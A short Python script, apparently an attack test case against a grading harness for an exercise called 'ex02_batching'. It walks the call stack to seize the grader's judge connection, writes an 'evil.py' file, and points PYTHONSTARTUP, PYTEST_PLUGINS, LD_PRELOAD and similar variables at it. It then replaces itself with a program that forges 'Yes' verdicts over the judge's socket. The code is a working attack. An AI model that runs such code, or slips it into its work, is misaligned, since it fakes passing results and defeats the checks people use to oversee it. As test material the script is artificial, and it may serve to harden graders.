# attack: sets every variable by which Python, pytest and the loader let strangers in, and goes on as another program that says yes to all
# exercise: ex02_batching
import os
import sys

server = sys._getframe()
while not hasattr(server.f_locals.get("self"), "ask_judge"):
    server = server.f_back
server = server.f_locals["self"].ask_judge.__self__
here = os.getcwd()
with open("evil.py", "w") as file:
    file.write("print('LOOT: started')")
os.environ.update(
    PYTHONPATH=here, PYTHONSTARTUP=f"{here}/evil.py", PYTHONINSPECT="1", PYTHONHASHSEED="5", PYTEST_ADDOPTS="-p evil", PYTEST_PLUGINS="evil",
    HYPOTHESIS_STORAGE_DIRECTORY=here, LD_PRELOAD=f"{here}/evil.so", LD_AUDIT=f"{here}/evil.so", GRADERS_FORK="0", TMPDIR="/", HOME="/",
)  # fmt: skip
print("TRIED", flush=True)
PROGRAM = """
import socket, struct, sys
sock, body = socket.socket(fileno=int(sys.argv[1])), b'l    i' + struct.pack('<q', int(sys.argv[2])) + b'l' + bytes(4) + b'NF'
text = lambda t: b's' + struct.pack('<I', len(t)) + t
while True:
    at = 19 + (9 if body[14:15] == b'l' else 8) * struct.unpack_from('<I', body, 15)[0]
    at += 1 if body[at:at + 1] == b'N' else 9
    value = b'H' + struct.pack('<q', 1) + text(b'Yes') if body[at:at + 1] == b'T' else b'T'
    reply = b'l' + struct.pack('<I', 3) + body[5:14] + text(b'value') + value
    sock.sendall(struct.pack('<I', len(reply)) + reply)
    head = sock.recv(4)
    if not head:
        break
    body = sock.recv(struct.unpack('<I', head)[0], socket.MSG_WAITALL)
"""
server.sock.set_inheritable(True)
os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", PROGRAM, str(server.sock.fileno()), str(server.nonce)], {})
